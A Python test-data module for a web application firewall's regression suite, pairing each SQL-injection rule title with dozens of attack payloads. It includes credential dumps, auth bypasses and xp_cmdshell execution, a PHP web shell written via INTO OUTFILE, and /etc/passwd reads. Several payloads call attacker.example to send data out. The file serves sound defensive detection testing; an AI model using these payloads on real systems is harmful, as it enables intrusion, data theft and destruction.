"""Blind SQL-injection set, the ninth author's: the positive regression tests a careful rule author writes for each
CRS 3.3.4 SQLi request rule at paranoia levels 1-2 (and the SQLi titles CRS 4.x added at PL1-2), from the rule
titles alone, with benign requests that carry the same SQL words innocently.

Angle: for every detection title, the canonical attack the title names, then one test per alternative its family
covers (each keyword, function, operator, comment form, dialect - MySQL, MSSQL, PostgreSQL, Oracle, SQLite,
MongoDB - that the title's family takes in), then the variants a good rule must still catch: other quoting,
casing, whitespace and comment substitutes, concatenation, and encodings a server or application decodes
(URL and double URL, HTML entities, \\uXXXX escapes in JSON).

Family: sqli only. Sub-families, one per title (kebab-case from the title): libinjection, common-db-names,
sleep-benchmark-blind, benchmark-sleep-conditional, mssql-code-exec-info-gathering, integer-overflow-magic-number,
conditional-injection, charset-switch-mssql-dos, match-against-merge-execute-immediate, basic-sqli-common-string,
pg-sleep-waitfor-shutdown, mongodb-injection, stored-procedure-function, udf-data-structure-manipulation,
concatenated-basic-sqlilfi, mysql-inline-comment, common-injection-testing, sql-operator, sql-tautology,
sql-injection-attack-942150, auth-bypass-1of3, comment-space-obfuscation-backtick, chained-injection-1of2,
auth-bypass-2of3, comments-conditions-char, chained-injection-2of2, classic-probing-1of3, auth-bypass-3of3,
alter-or-union, classic-probing-2of3, sql-injection-attack-942380 / -942390 / -942400 / -942410 / -942470 /
-942480, special-char-anomaly, comment-sequence, hex-encoding, ticks-backticks-bypass, and the 4.x titles
json-based-sqli, mysql-scientific-notation, auth-bypass-split-query, auth-bypass-4of4.

Placements: every payload is sent twice. Once to our real routes, rotating through the query of /api/users, the
admin search form (with csrf_token), a JSON body of /api/users, a JSON body with \\uXXXX escapes, a cookie, the
User-Agent, the Referer, another header, a parameter name, an XML body, a multipart field or file name and the
URL path. Once the way a WAF's regression suite sends it ("rs-" placements): to paths that are not our routes
(/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names, as a
query string, a form body, a JSON or XML body, a raw form-typed body that is not key=value, or in the
User-Agent, Referer, a custom header or a cookie.

Benign: Slack messages and bios (chat_and_bio), searches, profiles with names and addresses, public links and
prose that use the same vocabulary (select, union, sleep, benchmark, drop, merge, execute, match against,
apostrophes in names, hashes, dashes, backticks in chat).

Authorship and independence: written from general knowledge of SQL injection and from the rule titles alone; no
rule, ruleset regression test, public payload list or other blind set was read. Measured once on unchanged code;
payloads were not changed after the measurement. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "eightyninth"

SUBS: dict[str, list[str]] = {
    # 942100 PL1: SQL Injection Attack Detected via libinjection
    "libinjection": [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "-1' UNION ALL SELECT NULL,NULL,version()-- -",
        "1; DROP TABLE users--",
        "admin'--",
        "1 AND 1=2 UNION SELECT 1,@@version,3#",
        "' OR 1=1 LIMIT 1 -- -",
        "1' AND SUBSTRING(@@version,1,1)='5",
        "1) OR (1=1",
        "\" OR \"\"=\"",
        "1'/**/UNION/**/SELECT/**/1,2,3--",
        "1%27%20OR%201%3D1--",
        "1' oR 'a'='a' /*",
        "') or ('x')=('x",
    ],
    # 942140 PL1: Common DB Names Detected
    "common-db-names": [
        "1 UNION SELECT table_name,2 FROM information_schema.tables--",
        "1 union select group_concat(column_name) from information_schema.columns where table_name='users'",
        "' UNION SELECT user,authentication_string FROM mysql.user-- -",
        "1 UNION SELECT name,NULL FROM master..sysdatabases--",
        "1;SELECT name FROM sysobjects WHERE xtype='U'--",
        "' union select usename,passwd from pg_shadow--",
        "1 UNION SELECT tablename,NULL FROM pg_catalog.pg_tables--",
        "' UNION SELECT sql,name FROM sqlite_master WHERE type='table'--",
        "1 AND (SELECT COUNT(*) FROM msdb.dbo.backupset)>0",
        "1 union select schema_name from INFORMATION_SCHEMA.SCHEMATA",
        "'+(select top 1 name from sys.databases)+'",
        "1 union select * from performance_schema.accounts",
        "1 union select 1 from mysql.db where db like 'wp%'",
        "1 and exists(select * from tempdb..sysobjects)",
    ],
    # 942160 PL1: Detects blind sqli tests using sleep() or benchmark()
    "sleep-benchmark-blind": [
        "1' AND SLEEP(5)-- -",
        "1 AND SLEEP(5)",
        "1' OR BENCHMARK(5000000,MD5(1))#",
        "1)) and sleep(10)#",
        "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
        "1 and (select * from (select(sleep(5)))a)",
        "1'/**/AND/**/SLEEP(5)/**/AND/**/'1'='1",
        "benchmark(10000000,sha1('x'))",
        "sleep (3)",
        "1 OR SlEeP(0x5)",
        "1%27%20AND%20SLEEP%285%29--%20",
        "1;select sleep(5);",
        "\"||sleep(5)||\"",
    ],
    # 942170 PL1: benchmark and sleep injection attempts including conditional queries
    "benchmark-sleep-conditional": [
        "1 AND IF(1=1,SLEEP(5),0)",
        "' AND IF(SUBSTRING(user(),1,1)='r',BENCHMARK(3000000,MD5('a')),null)-- -",
        "1 and (select case when (1=1) then sleep(5) else 1 end)",
        "select if(ascii(substr(database(),1,1))>97,sleep(3),0)",
        "1 AND ELT(1=1,SLEEP(5))",
        "' OR IF(LENGTH(database())=8,SLEEP(4),1) AND '1'='1",
        "SELECT BENCHMARK(2000000,ENCODE('hello','goodbye'))",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN SLEEP(5) ELSE 0x28 END))",
        "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x) AND 'a'='a",
        "IF(MID(VERSION(),1,1)=5,SLEEP(5),0)",
        "select sleep(5) from dual where 1=1",
        "1 or if(1,benchmark(1000000,md5(1)),0)",
    ],
    # 942190 PL1: MSSQL code execution and information gathering attempts
    "mssql-code-exec-info-gathering": [
        "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
        "1; exec xp_cmdshell 'whoami'--",
        "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--",
        "1 UNION SELECT @@version,NULL--",
        "'; exec master.dbo.xp_dirtree '\\\\attacker.example\\x'--",
        "1 union select 1,user_name(),db_name()--",
        "'; EXEC('sel'+'ect 1')--",
        "1;EXECUTE sp_executesql N'SELECT 1'",
        "'; exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet','x'--",
        "1 and 1=(select @@servername)",
        "';declare @s varchar(8000) exec(@s)--",
        "1 union select * from OPENROWSET('SQLOLEDB','server=attacker.example;uid=sa;pwd=x','select 1')",
        "'; EXEC master..sp_OACreate 'WScript.Shell', @o OUT--",
        "1 uNiOn sElEcT 1,@@VERSION--",
    ],
    # 942220 PL1: integer overflow attacks (skipfish), and the "magic number" crash
    "integer-overflow-magic-number": [
        "3.0.00738585072007e-308",
        "2.2250738585072011e-308",
        "2.2250738585072007e-308",
        "4294967296",
        "4294967295",
        "2147483648",
        "2147483647",
        "-2147483648",
        "-2147483649",
        "1e309",
        "0000012345",
        "-0000023456",
        "0000023456",
        "9223372036854775808",
    ],
    # 942230 PL1: conditional SQL injection attempts
    "conditional-injection": [
        "1 AND (CASE WHEN 1=1 THEN 1 ELSE 0 END)=1",
        "' OR CASE WHEN 1=1 THEN 1 ELSE 2 END='1",
        "1 AND IF(1=1,1,0)",
        "(select case when (substring(user,1,1)='p') then 1/0 else 1 end)",
        "1 and iif(1=1,1,0)=1",
        "1 AND NULLIF(1,1) IS NULL",
        "' and decode(substr(user,1,1),'S',1,0)=1--",
        "1 AND 1=(CASE WHEN (ASCII(SUBSTR(password,1,1))>64) THEN 1 ELSE 0 END)",
        "1 UNION SELECT IF(COUNT(*)>0,'yes','no') FROM users",
        "1 OR CASE WHEN 1=1 THEN (SELECT 1) END",
        "';IF (1=1) WAITFOR DELAY '0:0:5'--",
        "1 AND COALESCE((SELECT 1 FROM users LIMIT 1),0)=1",
        "1 and IFNULL(ascii(mid(database(),1,1)),0)>100",
        "1 or case/**/when/**/1=1/**/then/**/1/**/end",
    ],
    # 942240 PL1: MySQL charset switch and MSSQL DoS attempts
    "charset-switch-mssql-dos": [
        "1; ALTER TABLE users CONVERT TO CHARACTER SET gbk--",
        "'; alter database shop character set latin1;--",
        "'; WAITFOR DELAY '0:0:10'--",
        "1';waitfor time '23:59:59'--",
        "\";WAITFOR DELAY '00:00:05'--",
        "'; begin: select 1; goto begin--",
        "x';label1: select 1; goto label1",
        "1;alter table x modify name varchar(50) character set utf8mb4",
        "'; SET NAMES gbk; SELECT 1--",
        "%bf%27 OR 1=1-- ",
        "' UNION SELECT CONVERT(password USING latin1) FROM users--",
        "'%3BWAITFOR%20DELAY%20'0%3A0%3A5'--",
        "';   WaItFoR    dElAy '0:0:9'--",
    ],
    # 942250 PL1: MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections
    "match-against-merge-execute-immediate": [
        "1' AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)-- -",
        "1 union select 1 from posts where match (body) against ('x')",
        "'; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET u.role='admin'--",
        "1; merge users using (select 1 as id) s on users.id=s.id when matched then delete;",
        "'; EXECUTE IMMEDIATE 'DROP TABLE users'; --",
        "' || (select 1 from dual where 1=1) || ''; execute immediate 'grant dba to scott'",
        "BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO PUBLIC'; END;",
        "1 AND MATCH (a,b) AGAINST ('*' WITH QUERY EXPANSION)",
        "execute  immediate  'select 1'",
        "'/**/and/**/match(name)/**/against('a')#",
        "1;MERGE INTO accounts USING users ON (1=1) WHEN NOT MATCHED THEN INSERT VALUES (1)",
        "x' AND MATCH(email) AGAINST(0x61646d696e)--",
        "1 aNd MaTcH(c) AgAiNsT('y')",
    ],
    # 942270 PL1: basic sql injection, common attack string for mysql, oracle and others
    "basic-sqli-common-string": [
        "1 union select * from users",
        "' UNION SELECT username FROM admin--",
        "-1 UNION ALL SELECT 1,2,concat(user,0x3a,pass) FROM members",
        "1 UNION SELECT NULL FROM DUAL--",
        "x' union select password from users where 'a'='a",
        "1 UnIoN SeLeCt id,name FrOm accounts",
        "1 union distinct select 1 from wp_users",
        "1\tunion\tselect\t1\tfrom\tusers",
        "1%0aunion%0aselect%0a1%0afrom%0ausers",
        "1 union\nselect\nuser from\nmysql.user",
        "0 union select banner from v$version",
        "1 union select 1,2 from users where 1=1",
        "' union   select    login   from   staff--",
    ],
    # 942280 PL1: Postgres pg_sleep, waitfor delay and database shutdown
    "pg-sleep-waitfor-shutdown": [
        "1; SELECT pg_sleep(10)--",
        "1' AND 1=(SELECT 1 FROM pg_sleep(5))--",
        "';select pg_sleep(5);--",
        "1||pg_sleep(5)",
        "'; WAITFOR DELAY '0:0:5'--",
        "1) waitfor delay '00:00:10'--",
        "'; SHUTDOWN--",
        "1; shutdown with nowait;--",
        "1 AND (SELECT 1 FROM PG_SLEEP(5)) IS NOT NULL",
        "'||pg_sleep(10)||'",
        "; waitfor delay '0:0:5' --",
        "pg_sleep (5)",
        "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    ],
    # 942290 PL1: basic MongoDB SQL injection attempts
    "mongodb-injection": [
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "username[$ne]",
        "password[$regex]",
        "{\"$where\": \"sleep(5000) || true\"}",
        "';return(true);var foo='",
        "1'; return this.password.match(/^a/) //",
        "{\"$where\": \"this.role == 'admin'\"}",
        "{\"$or\": [{}, {\"a\": \"a\"}]}",
        "user[$exists]",
        "{\"$in\": [\"admin\", \"root\"]}",
        "role[$nin][]",
        "{\"$expr\": {\"$eq\": [1, 1]}}",
        "db.users.find({$where: function(){return true}})",
    ],
    # 942320 PL1: MySQL and PostgreSQL stored procedure/function injections
    "stored-procedure-function": [
        "1 LIMIT 1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)--",
        "1 procedure analyse()",
        "1; CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6',"
        "'system' LANGUAGE 'c' STRICT--",
        "1; DO $$ BEGIN PERFORM pg_sleep(1); END $$;--",
        "'; CREATE PROCEDURE p() BEGIN SELECT 1; END--",
        "1; SELECT lo_import('/etc/passwd')--",
        "1;COPY (SELECT '') TO PROGRAM 'id'--",
        "'; select dblink_connect('host=attacker.example user=postgres')--",
        "'; SELECT pg_read_file('/etc/passwd',0,200)--",
        "1; select lo_export(16400, '/tmp/x.so')",
        "1; CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW SET NEW.role='admin'--",
        "'; CALL mysql.proc_reset()--",
        "1; create function f() returns trigger as $$ begin return null; end $$ language plpgsql",
        "1; SELECT current_setting('data_directory')--",
    ],
    # 942350 PL1: MySQL UDF injection and other data/structure manipulation attempts
    "udf-data-structure-manipulation": [
        "'; CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'--",
        "1; select sys_eval('id')",
        "'; DROP TABLE users;--",
        "1; INSERT INTO users (name,role) VALUES ('x','admin')--",
        "'; UPDATE users SET role='admin' WHERE name='bob'--",
        "1; DELETE FROM sessions--",
        "'; TRUNCATE TABLE logs--",
        "1; ALTER TABLE users ADD COLUMN backdoor TEXT--",
        "'; SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'--",
        "1; CREATE TABLE pwn(data text)--",
        "1;RENAME TABLE users TO users_old--",
        "';DROP DATABASE shop#",
        "1; LOAD DATA INFILE '/etc/passwd' INTO TABLE t--",
        "'; REPLACE INTO users VALUES (1,'admin','x')--",
    ],
    # 942360 PL1: concatenated basic SQL injection and SQLLFI attempts
    "concatenated-basic-sqlilfi": [
        "1 UNION SELECT LOAD_FILE('/etc/passwd')",
        "' union select load_file(0x2f6574632f706173737764)--",
        "1' AND 1=0 UNION SELECT LOAD_FILE('C:\\\\boot.ini')#",
        "1 union select concat(username,0x3a,password) from users",
        "'||(SELECT username FROM users LIMIT 1)||'",
        "1;select * from users into dumpfile '/tmp/x'",
        "1 UNION SELECT BulkColumn FROM OPENROWSET(BULK 'C:\\Windows\\win.ini', SINGLE_CLOB) x",
        "1 AND 0 UNION SELECT 1,2,group_concat(load_file('/var/www/config.php'))",
        "1 union select 1,2 into outfile '/tmp/out.txt'",
        "ascii(substring((select password from users),1,1))",
        "1 union select concat_ws(0x3a,user(),database()) as x from dual",
        "x' union select null,load_file('/proc/self/environ')-- -",
        "1 UNION/**/SELECT/**/LOAD_FILE(CHAR(47,101,116,99,47,112,97,115,115,119,100))",
    ],
    # 942500 PL1: MySQL in-line comment detected
    "mysql-inline-comment": [
        "1 /*!UNION*/ /*!SELECT*/ 1,2,3",
        "1/*!50000union*/select 1",
        "/*!32302 1/0, */ 1 FROM tablename",
        "1'/*!AND*/ 1=1-- -",
        "/*!12345UNION SELECT*/ user()",
        "x' /*!or*/ 1=1#",
        "/*!SELECT*/ 1",
        "/*! sleep(5)*/",
        "1/*!00000AND*/2>1",
        "%2f%2a%21union%2a%2f select 1",
        "/*!50000%55nIoN*/ /*!50000%53eLeCt*/ 1",
        "1 /*!40101 AND 1=1*/",
        "'/*!*/or/*!*/'1'='1",
    ],
    # 942110 PL2: Common Injection Testing Detected
    "common-injection-testing": [
        "'",
        "1'",
        "admin'",
        "\"",
        "'--",
        "`",
        "';",
        "1' ",
        "1')",
        "\"'",
        "%27",
        "&#39;",
        "test\"",
        "1'''",
    ],
    # 942120 PL2: SQL Operator Detected
    "sql-operator": [
        "1 XOR 1",
        "1' RLIKE '^a",
        "' or username regexp '^adm",
        "x' sounds like 'x",
        "1 <=> 1",
        "1 not between 0 and 1",
        "1 is null",
        "' or name like null--",
        "1 div 0",
        "1 or 1 not in (2)",
        "1 and name not like 'x%'",
        "1 or isnull(1/0)",
        "1 && 1",
        "1 Or ReGeXp_LiKe(user,'^a')",
    ],
    # 942130 PL2: SQL Tautology Detected
    "sql-tautology": [
        "' OR 1=1--",
        "1 AND 2=2",
        "x' OR 'x'='x",
        "1 or 'a'='a'",
        "' or 2>1 -- ",
        "1 OR 3<>4",
        "' or 1 like 1#",
        "1 OR 'abc' = 'abc'",
        "\" or \"1\" = \"1",
        "' or 0x1=0x1--",
        "1 or true=true",
        "' OR 1!=2 --",
        "1 or 5 between 1 and 9",
        "'or''='",
    ],
    # 942150 PL2: SQL Injection Attack
    "sql-injection-attack-942150": [
        "1 AND ASCII(SUBSTRING(user(),1,1))>64",
        "concat(user(),version())",
        "CHAR(65,66)",
        "' AND LENGTH(database())>1--",
        "1 AND ORD(MID(password,1,1))>0",
        "' || UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual)) || '",
        "1 AND EXTRACTVALUE(1,CONCAT(0x7e,version()))",
        "UPDATEXML(1,concat(0x7e,(select user())),1)",
        "' AND HEX(user())>0--",
        "1 and unhex(hex(database()))",
        "' AND LOWER(@@version) LIKE '%maria%'",
        "group_concat(table_name)",
        "1 AND SUBSTR(banner,1,1)='O'",
        "1 and row_count()=0",
    ],
    # 942180 PL2: basic SQL authentication bypass attempts 1/3
    "auth-bypass-1of3": [
        "admin'--",
        "admin' #",
        "admin'/*",
        "' or 1--",
        "'or 1#",
        "\" or 1 -- -",
        "' xor 1=1--",
        "' and 1='1",
        "admin\" or \"1\"=\"1",
        "'*'",
        "'-'",
        "1' or '1'='1' --",
        "') or 1-- ",
        "ADMIN' Or 1#",
    ],
    # 942200 PL2: MySQL comment-/space-obfuscated injections and backtick termination
    "comment-space-obfuscation-backtick": [
        "1/**/UNION/**/SELECT/**/1",
        "'/**/or/**/1=1#",
        "1%0bunion%0bselect%0b1",
        "1\x0bOR\x0b1=1",
        "x`) or 1=1 -- ",
        "id` = 1 or 1=1#",
        "1`/**/or/**/1",
        "SELECT/*foo*/password/*bar*/FROM/**/users",
        "1'+/*!or*/+'1'='1",
        "1/*xyz*/and/*xyz*/1=1",
        "(select(1)from(users))",
        "1'or(1)=(1)#",
        "1'||(select(1))#",
        "1\fOR\f1=1",
    ],
    # 942210 PL2: chained SQL injection attempts 1/2
    "chained-injection-1of2": [
        "1 and username = 'admin' and password like 'a%'",
        "'; select * from users; --",
        "1; select 1; select 2",
        "1 || user_id=1 --",
        "x' and user like 'a%",
        "1 and 1 between 0 and 2",
        "1 or id>0 and name<>'x'",
        "';insert into log values(1);--",
        "1) and (select 1)=1 and (1=1",
        "1 && userid=0",
        "' or id is not null and '1'='1",
        "1;update users set a=1 where 1=1",
    ],
    # 942260 PL2: basic SQL authentication bypass attempts 2/3
    "auth-bypass-2of3": [
        "' or 'a'='a",
        "') or ('a'='a",
        "\")) or ((\"x\"=\"x",
        "' or true --",
        "' having 1=1--",
        "' group by users.id having 1=1--",
        "1' or username is not null--",
        "' or '1'='1' limit 1/*",
        "admin' and '1'='1",
        "'=' '",
        "' or not 1=2 --",
        "' or username like '%adm%",
        "'||'1'='1",
    ],
    # 942300 PL2: MySQL comments, conditions and ch(a)r injections
    "comments-conditions-char": [
        "1 AND CHAR(49)=CHAR(49)",
        "' or char(97)=char(97)--",
        "1 union select chr(65)||chr(66) from dual",
        "' AND 1=1#",
        "1)) or 1=1#",
        "x' or 1 /* comment */ = 1",
        "SELECT CHAR(115,101,108,101,99,116)",
        "1 and ascii(char(65))=65 --",
        "' or 1=1 /*",
        "nchar(83)+nchar(81)+nchar(76)",
        "' and user()=char(114,111,111,116)#",
        "1 || char(49)=1",
        "') and (1)=(1)-- ",
    ],
    # 942310 PL2: chained SQL injection attempts 2/2
    "chained-injection-2of2": [
        "1);select * from users--",
        "'); DROP TABLE x;--",
        "1;exec('select 1')--",
        "1 and (select count(*) from users)>0",
        "(select 1)=(select 1)",
        "'||(select 'a')||'",
        "1;declare @q nvarchar(200) select @q=0x41 exec(@q)",
        "1; begin transaction; delete from users; commit",
        "1 union select (select 1),(select 2)",
        "')) union select 1,2--",
        "x\";select 1;--",
        "1);shutdown--",
    ],
    # 942330 PL2: classic SQL injection probings 1/3
    "classic-probing-1of3": [
        "' or 1=1",
        "\" or 1=1",
        "1' and 1=1 and '1'='1",
        "' union select",
        "' and 'x'='x",
        "x' or 'x",
        "' OR 'SQLi' = 'SQLi'",
        "')) or 1=1--",
        "admin' or '1",
        "\"or\"a\"=\"a",
        "' or a=a--",
        "%22%20or%20%221%22%3D%221",
        "&#x27; or 1=1 --",
    ],
    # 942340 PL2: basic SQL authentication bypass attempts 3/3
    "auth-bypass-3of3": [
        "' || 1=1--",
        "' && 1=1--",
        "1' AND id IN (SELECT id FROM users)--",
        "' or id in(select id from admins)--",
        "admin'||'",
        "x'&&'1",
        "' or 1 in (1)--",
        "') or true#",
        "' UNION SELECT 'admin','5f4dcc3b5aa765d61d8327deb882cf99'--",
        "' or username in ('admin')--",
        "1' or uid=0 --",
        "' or exists(select 1)--",
    ],
    # 942361 PL2: basic SQL injection based on keyword alter or union
    "alter-or-union": [
        "1 UNION SELECT 1,2",
        "'; ALTER USER root IDENTIFIED BY 'x'--",
        "1; alter table users drop column email--",
        "-1 union all select null--",
        "x' UNION(SELECT 1)--",
        "'; alter login sa with password='x'--",
        "1 union/**/select 1",
        "1 UNION%20SELECT 1",
        "'; alter database test set single_user--",
        "1\nunion\nselect 1",
        "1 uNiOn aLl SeLeCt 1",
        "'; ALTER SYSTEM SET shared_buffers='1GB'--",
    ],
    # 942370 PL2: classic SQL injection probings 2/3
    "classic-probing-2of3": [
        "''''",
        "'-''-'",
        "\"\" or \"\"",
        "1'*'1",
        "' + '1",
        "'||'",
        "'%'",
        "' ^ 1 --",
        "1' - 0 - '",
        "' & 1 --",
        "'<>'",
        "'='",
        "\"-\"",
    ],
    # 942380 PL2: SQL Injection Attack
    "sql-injection-attack-942380": [
        "1 ORDER BY 10--",
        "1' GROUP BY 1,2,3--",
        "1 AND EXISTS(SELECT * FROM users)",
        "1 having 1=1",
        "' into outfile '/tmp/a'--",
        "1 union select 1 into dumpfile '/tmp/b'",
        "1 and (select top 1 name from users)='a'",
        "' or exists (select 1 from dual)--",
        "1 order by 1 desc--",
        "1 union all select 1,2 limit 1",
        "' group by password having 1=1--",
        "1' ORDER BY 3#",
    ],
    # 942390 PL2: SQL Injection Attack
    "sql-injection-attack-942390": [
        "1 or 1 = 1",
        "1 and 1 = 1",
        "1 xor 1 = 1",
        "' or 1 > 0 --",
        "1 or 'a' = 'a'",
        "1 || 1 = 1",
        "1 and 2 > 1",
        "1 or true",
        "1 OR 1 >= 1",
        "1 AND 3 <= 4",
        "' or 1 like 1 --",
        "1 or 1 is not null",
    ],
    # 942400 PL2: SQL Injection Attack
    "sql-injection-attack-942400": [
        "1 and 1 in (1)",
        "' and 'a' in ('a')--",
        "1 or 1 in (select 1)",
        "1 AND user IN ('root')",
        "x' and id in (1,2,3)#",
        "1 and 1 not in (2)",
        "1 and (1) in (1)",
        "1' and 0x61 in (0x61)--",
        "1 or name in ('admin')",
        "1 and 'x' in (select 'x')",
        "1 AnD 2 In (2)",
    ],
    # 942410 PL2: SQL Injection Attack
    "sql-injection-attack-942410": [
        "1 AND CAST(version() AS int)=1",
        "1 or floor(rand(0)*2)",
        "1 and (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)",
        "1 AND MD5(1)=MD5(1)",
        "1 and crc32(1)",
        "1 AND CONVERT(int,@@version)>0",
        "1 and len(db_name())>1",
        "' and make_set(1,user())--",
        "1 and soundex(1)",
        "1 and locate('a',user())>0",
        "1 and strcmp(user(),'root')",
        "1 and lpad(1,2,0)",
        "1 AND CHARINDEX('a',user_name())>0",
        "1 and pi()>3",
    ],
    # 942470 PL2: SQL Injection Attack
    "sql-injection-attack-942470": [
        "1;exec xp_cmdshell 'dir'",
        "1 UNION SELECT 1 FROM MSysAccessObjects",
        "1;exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select 1'",
        "1;exec master..xp_regwrite 'HKLM','x','y','REG_SZ','z'",
        "' union select username from dba_users--",
        "' || utl_http.request('http://attacker.example/'||(select user from dual)) --",
        "1 AND DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)=1",
        "1;exec sp_addextendedproc 'xp_cmdshell','xplog70.dll'",
        "1 union select 1 from sysprocesses",
        "';exec master..xp_loginconfig--",
        "' and 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))--",
        "1;select * from opendatasource('SQLOLEDB','Data Source=attacker.example;User ID=sa').master.dbo.x",
        "'; declare pragma autonomous_transaction; begin execute immediate 'x'; end;--",
        "1;exec sp_password",
    ],
    # 942480 PL2: SQL Injection Attack
    "sql-injection-attack-942480": [
        "'; DECLARE @c CURSOR; SET @c=CURSOR FOR SELECT name FROM sys.tables--",
        "1;declare @x varchar(99) set @x=0x77 exec(@x)",
        "' UNION ALL SELECT 1,2--",
        "1; insert into users values('x','y')",
        "1;select * into newtbl from users--",
        "1; create user hacker identified by 'x'--",
        "'; grant all privileges on *.* to 'x'@'%'--",
        "1; delete from users where 1=1",
        "1 and 1=(select 1 from dual where 1=1)",
        "' ; create database x--",
        "1; select 1 from information_schema.tables where table_schema=database()",
        "'; update users set pw='x'--",
    ],
    # 942430 PL2: Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)
    "special-char-anomaly": [
        "'))))))))))))--",
        "1'\"`;;;;;;;;;;--",
        "((((((((((((1))))))))))))",
        "'||'||'||'||'||'||'",
        "~!@#$%^&*()-+=[]{};:",
        "a'--'--'--'--'--'--'",
        "1)))))''''))))'",
        "\"\"\"\"\"\"\"\"\"\"\"\"\"",
        "--;--;--;--;--;--",
        "')))/**/or/**/(((('1'='1",
        "<><><><><><><>",
        "'+'+'+'+'+'+'+'",
    ],
    # 942440 PL2: SQL Comment Sequence Detected
    "comment-sequence": [
        "admin'--",
        "1 -- comment",
        "1;--",
        "1#",
        "x'#",
        "/*",
        "1*/",
        "1/**/",
        "1--+",
        "1 -- -",
        "'; --",
        "1 /* comment */ or 1",
        "1--%0a",
        "1 ;# x",
    ],
    # 942450 PL2: SQL Hex Encoding Identified
    "hex-encoding": [
        "0x61646d696e",
        "1 union select 0x3c3f7068702073797374656d28293b3f3e into outfile '/tmp/x'",
        "SELECT CHAR(0x41)",
        "x' or user=0x726f6f74--",
        "0X7e",
        "load_file(0x2f6574632f706173737764)",
        "x'61646d696e'",
        "1 AND 0x31=0x31",
        "concat(0x3a,0x3a)",
        "0x2f2a2a2f",
        "where name = 0x41444D494E",
        "1 or 0x50=0X50",
    ],
    # 942510 PL2: SQLi bypass attempt by ticks or backticks detected
    "ticks-backticks-bypass": [
        "`id`",
        "`or 1=1`",
        "select `password` from `users`",
        "\u00b4 or 1=1 \u00b4",
        "`1=1`",
        "admin`-- -",
        "`(select 1)`",
        "`users`.`password`",
        "`YWRtaW4=`",
        "x` union select 1 from `users",
        "'`'`'",
        "`sleep(5)`",
    ],
    # 4.x: JSON-Based SQL Injection
    "json-based-sqli": [
        "1 AND JSON_EXTRACT('{\"a\":1}','$.a')=1",
        "' or '{\"a\":1}' @> '{\"a\":1}'--",
        "1 OR JSON_LENGTH('{}') <= 8896 UNION DISTINCT SELECT @@version",
        "' OR '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb--",
        "1 or json_depth('{}') != 2521",
        "' and data->>'role'='admin",
        "1 OR JSON_KEYS('{\"a\":1}') IS NOT NULL",
        "1 AND JSON_CONTAINS('[1]','1')",
        "' or json_valid('{}')--",
        "1 OR '{\"x\":1}'::json->'x' IS NOT NULL",
        "' or jsonb_exists('{\"a\":1}','a')--",
        "1 and json_type('{}')='OBJECT'",
    ],
    # 4.x: MySQL Scientific Notation payload detected
    "mysql-scientific-notation": [
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e) 1.e)=70 or'1'='2",
        "0.e(select 1)",
        "1.e(user())",
        "2.e(select username from users)",
        "1.e)or 1.e(1=1",
        "1e0union select 1",
        "1.e-1union select password from users",
        "0e1union select 1,2",
        "1.union select 1",
        "-1.0e3union all select version()",
        "' or 1.e(1)=1.e(1)-- -",
        "1.E(SLEEP(5))",
    ],
    # 4.x: SQL Authentication bypass (split query)
    "auth-bypass-split-query": [
        "admin'/*",
        "*/ or '1'='1",
        "*/ or 1=1-- -",
        "'/*",
        "*/'",
        "admin\"/*",
        "*/ OR ''='",
        "'or/*",
        "*/=1-- ",
        "root'/**",
        "*/)) or ((1=1",
        "') /*",
    ],
    # 4.x: basic SQL authentication bypass attempts 4/4
    "auth-bypass-4of4": [
        "admin'or'1",
        "'or'1'!='2",
        "1'or'1'<'2",
        "'or 0<1#",
        "'or''<'1",
        "admin' OR 1=1 LIMIT 1;#",
        "' oR 'X' = 'x' #",
        "'or!''='",
        "\"or\"\"<\"1",
        "'or 1>=1--",
        "admin')or('1",
        "'or-1<0#",
    ],
}

# A payload meant for a parameter name (MongoDB operators in bracketed names): both placements name parameters.
PARAM_NAME_PAYLOADS = {"username[$ne]", "password[$regex]", "user[$exists]", "role[$nin][]"}

OURS = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Filter", "param-name",
        "xml", "multipart-field", "multipart-filename", "path", "json-uescape"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie", "rs-json-uescape", "rs-query"]
RS_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/index.php", "/", "/api/v1/items", "/cgi-bin/test.cgi", "/search"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
